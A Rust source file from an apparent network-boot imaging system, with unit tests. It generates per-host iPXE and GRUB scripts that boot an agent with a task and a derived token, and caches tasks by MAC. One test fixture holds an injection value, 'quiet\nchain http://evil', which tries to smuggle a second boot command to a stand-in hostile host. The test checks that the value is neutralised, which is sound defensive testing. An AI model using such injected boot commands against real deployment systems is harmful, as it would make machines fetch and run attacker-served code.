//! Per-host iPXE scripts from the control plane: a host with a pending task boots the agent's
//! kernel and initramfs with the task on its command line; every other host gets the node's
//! usual script (a hand-written `hosts/<mac>.ipxe`, else the menu that boots the local disk).
//!
//! The tasks come from a [`NodeTasks`] cache that the node loop ([`crate::control::node`])
//! fills from the master and keeps when the master is unreachable.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, RwLock};
use std::time::Duration;

use crate::control::client::Client;
use crate::control::model::{BootTask, canonical_mac};
use crate::control::tokens::task_token;
use crate::net::grub;
use crate::net::http::{AgentArgs, AgentFiles, BootScripts, format_mac, one_line};

/// The last known open tasks of a node's hosts, by MAC; kept in a file when it has one, so a
/// node restarted while its master is away still knows its hosts' tasks.
#[derive(Debug, Default)]
pub struct NodeTasks {
    by_mac: RwLock<HashMap<String, BootTask>>,
    file: Option<PathBuf>,
}

impl NodeTasks {
    /// An empty cache.
    pub fn new() -> Self {
        NodeTasks::default()
    }

    /// A cache kept in `file`, starting from what it holds (an unreadable file is reported and
    /// ignored: the next pull from the master replaces it).
    pub fn persistent(file: &Path) -> Self {
        let cache = NodeTasks {
            by_mac: RwLock::default(),
            file: Some(file.to_path_buf()),
        };
        match std::fs::read(file) {
            Ok(bytes) => match serde_json::from_slice::<Vec<BootTask>>(&bytes) {
                Ok(tasks) => cache.fill(tasks),
                Err(e) => tracing::warn!(file = %file.display(), "node: ignoring the task cache: {e}"),
            },
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
            Err(e) => tracing::warn!(file = %file.display(), "node: cannot read the task cache: {e}"),
        }
        cache
    }

    /// Replaces what is known with the master's answer.
    pub fn replace(&self, tasks: Vec<BootTask>) {
        if let Some(file) = &self.file {
            let saved = serde_json::to_vec(&tasks)
                .map_err(|e| crate::Error::InvalidInput(e.to_string()))
                .and_then(|bytes| crate::fsutil::write_durably(file, &bytes));
            if let Err(e) = saved {
                tracing::warn!(file = %file.display(), "node: cannot keep the task cache: {e}");
            }
        }
        self.fill(tasks);
    }

    /// The pending task with this id.
    pub fn by_id(&self, id: crate::control::model::TaskId) -> Option<BootTask> {
        let guard = self.by_mac.read().unwrap_or_else(std::sync::PoisonError::into_inner);
        guard.values().find(|t| t.task.id == id).cloned()
    }

    fn fill(&self, tasks: Vec<BootTask>) {
        let mut by_mac = HashMap::new();
        for task in tasks {
            for mac in &task.macs {
                match canonical_mac(mac) {
                    Ok(mac) => {
                        by_mac.insert(mac, task.clone());
                    }
                    Err(e) => tracing::warn!(host = %task.task.host, "node: ignoring a MAC: {e}"),
                }
            }
        }
        match self.by_mac.write() {
            Ok(mut guard) => *guard = by_mac,
            Err(poisoned) => *poisoned.into_inner() = by_mac,
        }
    }

    /// The pending task of the host with this MAC.
    pub fn get(&self, mac: [u8; 6]) -> Option<BootTask> {
        let key = format_mac(mac);
        match self.by_mac.read() {
            Ok(guard) => guard.get(&key).cloned(),
            Err(poisoned) => poisoned.into_inner().get(&key).cloned(),
        }
    }

    /// How many tasks (each once, whatever its host's MACs) match `keep`.
    pub fn count(&self, keep: impl Fn(&crate::control::model::Task) -> bool) -> usize {
        let guard = self.by_mac.read().unwrap_or_else(std::sync::PoisonError::into_inner);
        let ids: std::collections::HashSet<_> = guard.values().filter(|t| keep(&t.task)).map(|t| t.task.id).collect();
        ids.len()
    }

    /// How many MACs have a task.
    pub fn len(&self) -> usize {
        match self.by_mac.read() {
            Ok(guard) => guard.len(),
            Err(poisoned) => poisoned.into_inner().len(),
        }
    }

    /// True when no host has a task.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// The node's [`BootScripts`]: the agent for hosts with a task, `others` for the rest.
pub struct NodeBootScripts {
    /// The tasks, kept fresh by the node loop.
    pub tasks: Arc<NodeTasks>,
    /// What hosts without a task get (the menu).
    pub others: Arc<dyn BootScripts>,
    /// This node's name (`fog.node=`).
    pub node: String,
    /// The node's token: the script carries a task token derived from it
    /// ([`crate::control::tokens::task_token`]), never the token itself.
    pub node_token: String,
    /// The agent's kernel, relative to the boot directory (`bootenv/vmlinuz`).
    pub kernel: String,
    /// The agent's initramfs, relative to the boot directory (`bootenv/initrd.img`).
    pub initrd: String,
    /// This node's HTTP base when a request does not say it (`http://10.99.0.1:8080`).
    pub default_base: String,
    /// Asks the master again before booting a host into the agent (see [`Recheck`]).
    pub recheck: Option<Recheck>,
}

/// Before a host is sent into the agent, the node asks the master for its tasks once more (for
/// at most `timeout`): a task that ended since the last beat (the agent checked out and rebooted
/// the host) must not boot the agent again. When the master does not answer, the cache stands.
#[derive(Debug, Clone)]
pub struct Recheck {
    /// The master.
    pub client: Client,
    /// This node's name.
    pub node: String,
    /// How long to wait for the master.
    pub timeout: Duration,
}

impl Recheck {
    /// Refreshes `tasks` from the master if it answers in time; only on a multi-threaded tokio
    /// runtime (the server's), where a request handler may block its worker.
    fn refresh(&self, tasks: &NodeTasks) {
        let Ok(handle) = tokio::runtime::Handle::try_current() else {
            return;
        };
        if handle.runtime_flavor() != tokio::runtime::RuntimeFlavor::MultiThread {
            return;
        }
        let fetched = tokio::task::block_in_place(|| {
            handle.block_on(tokio::time::timeout(
                self.timeout,
                self.client.node_boot_tasks(&self.node),
            ))
        });
        match fetched {
            Ok(Ok(fresh)) => tasks.replace(fresh),
            Ok(Err(e)) => tracing::debug!("node: recheck before booting the agent: {e}"),
            Err(_) => tracing::debug!("node: recheck before booting the agent timed out"),
        }
    }
}

impl NodeBootScripts {
    /// The task the host with `mac` boots the agent for, asked again of the master first.
    fn task_to_boot(&self, mac: [u8; 6]) -> Option<BootTask> {
        if let (Some(recheck), Some(_)) = (&self.recheck, self.tasks.get(mac)) {
            recheck.refresh(&self.tasks);
        }
        self.tasks.get(mac)
    }

    fn agent_files(&self) -> AgentFiles {
        AgentFiles {
            kernel: self.kernel.clone(),
            initrd: self.initrd.clone(),
        }
    }

    /// The agent's arguments for `task`: it talks to this node at `base`, which answers for the
    /// master when it is away, with a task token.
    fn agent_args(&self, mac: [u8; 6], task: &BootTask, base: &str) -> AgentArgs {
        let t = &task.task;
        AgentArgs {
            master: base.trim_end_matches('/').to_string(),
            node: Some(self.node.clone()),
            task: Some(t.id),
            action: t.kind.as_str().to_string(),
            mac: Some(format_mac(mac)),
            token: Some(task_token(&self.node_token, &self.node, t.id)),
            image: t.image.clone(),
            extra: task.kernel_args.clone(),
        }
    }

    /// The script that boots the agent for `task`, its files served from `base`.
    pub fn agent_script(&self, mac: [u8; 6], task: &BootTask, base: &str) -> String {
        let args = self.agent_args(mac, task, base);
        let mac = format_mac(mac);
        let base = base.trim_end_matches('/');
        let t = &task.task;
        let boot = self.agent_files().boot_lines(base, &args, "failed");
        format!(
            "#!ipxe\n\
             # fog: task {id} ({action}) for host {host} ({mac})\n\
             echo fog: task {id}: {action} on {host}; loading the agent\n\
             {boot}\
             :failed\n\
             echo fog: cannot boot the agent from {base}/{kernel} (is the boot environment built on this node?)\n\
             echo fog: retrying in 30 s\n\
             sleep 30\n\
             chain --autofree {base}/boot/{mac}\n",
            id = t.id,
            action = t.kind.as_str(),
            host = one_line(&t.host),
            kernel = self.kernel,
        )
    }
}

impl BootScripts for NodeBootScripts {
    fn script(&self, mac: [u8; 6]) -> String {
        self.script_at(mac, &self.default_base)
    }

    fn script_at(&self, mac: [u8; 6], base: &str) -> String {
        match self.task_to_boot(mac) {
            Some(task) => self.agent_script(mac, &task, base),
            None => self.others.script_at(mac, base),
        }
    }

    fn grub_config(&self, mac: [u8; 6], base: &str) -> String {
        match self.task_to_boot(mac) {
            Some(task) => {
                let t = &task.task;
                let what = format!("task {}: {} on {}", t.id, t.kind.as_str(), t.host);
                grub::agent_config(&self.agent_files(), &self.agent_args(mac, &task, base), &what)
            }
            None => self.others.grub_config(mac, base),
        }
    }

    fn grub_menu(&self, base: &str) -> String {
        self.others.grub_menu(base)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::control::model::{After, LayoutMode, Task, TaskKind, TaskState};
    use crate::net::http::DefaultMenu;

    fn boot_task(kind: TaskKind) -> BootTask {
        BootTask {
            task: Task {
                id: 42,
                kind,
                host: "pc-01".into(),
                image: Some("win11".into()),
                node: Some("site-a".into()),
                group: None,
                schedule: None,
                after: After::default(),
                wake: false,
                layout: Some(LayoutMode::Exact),
                state: TaskState::Queued,
                ticket: None,
                created_at: 0,
                updated_at: 0,
            },
            macs: vec!["52-54-00-12-34-56".into()],
            kernel_args: "quiet\nchain http://evil".into(),
        }
    }

    fn scripts() -> NodeBootScripts {
        NodeBootScripts {
            tasks: Arc::new(NodeTasks::new()),
            others: Arc::new(DefaultMenu::default()),
            node: "site-a".into(),
            node_token: "fog_abc".into(),
            kernel: "bootenv/vmlinuz".into(),
            initrd: "bootenv/initrd.img".into(),
            default_base: "http://10.99.0.1:8080".into(),
            recheck: None,
        }
    }

    #[test]
    fn a_host_with_a_task_boots_the_agent_others_the_menu() {
        let s = scripts();
        s.tasks.replace(vec![boot_task(TaskKind::Deploy)]);
        let mac = [0x52, 0x54, 0, 0x12, 0x34, 0x56];
        let script = s.script(mac);
        assert!(script.starts_with("#!ipxe\n"));
        let kernel = script.lines().find(|l| l.starts_with("kernel ")).unwrap_or_default();
        assert!(kernel.starts_with("kernel http://10.99.0.1:8080/bootenv/vmlinuz initrd=initrd.img "));
        for arg in [
            "fog.task=42",
            "fog.action=deploy",
            "fog.mac=52:54:00:12:34:56",
            "fog.master=http://10.99.0.1:8080",
            &format!("fog.token={}", task_token("fog_abc", "site-a", 42)),
            "fog.image=win11",
            "quiet chain http://evil",
        ] {
            assert!(kernel.contains(arg), "{arg} missing from {kernel}");
        }
        assert!(script.contains("\ninitrd http://10.99.0.1:8080/bootenv/initrd.img "));
        assert!(
            !script.contains("\nchain http://evil"),
            "kernel args stay on the kernel line"
        );
        let menu = s.script([0x52, 0x54, 0, 0, 0, 1]);
        assert!(menu.contains("choose --timeout") && !menu.contains("fog.token"));
        s.tasks.replace(Vec::new());
        assert!(s.script(mac).contains("choose --timeout"));
        s.tasks.replace(vec![boot_task(TaskKind::Multicast)]);
        assert!(s.script(mac).contains("fog.token="), "a multicast task boots the agent");
    }

    #[test]
    fn grub_gets_the_same_decision() {
        let s = scripts();
        s.tasks.replace(vec![boot_task(TaskKind::Deploy)]);
        let mac = [0x52, 0x54, 0, 0x12, 0x34, 0x56];
        let config = s.grub_config(mac, "http://10.99.0.1:8080");
        let linux = config.lines().find(|l| l.starts_with("linux ")).unwrap_or_default();
        for arg in [
            "'fog.task=42'".to_string(),
            "'fog.action=deploy'".to_string(),
            format!("'fog.token={}'", task_token("fog_abc", "site-a", 42)),
            "'chain'".to_string(),
        ] {
            assert!(linux.contains(&arg), "{arg} missing from {linux}");
        }
        assert!(!config.contains("menuentry"), "a task boots at once");
        let menu = s.grub_config([0x52, 0x54, 0, 0, 0, 1], "http://10.99.0.1:8080");
        assert!(menu.contains("--id local ") && !menu.contains("fog.token"));
    }
}
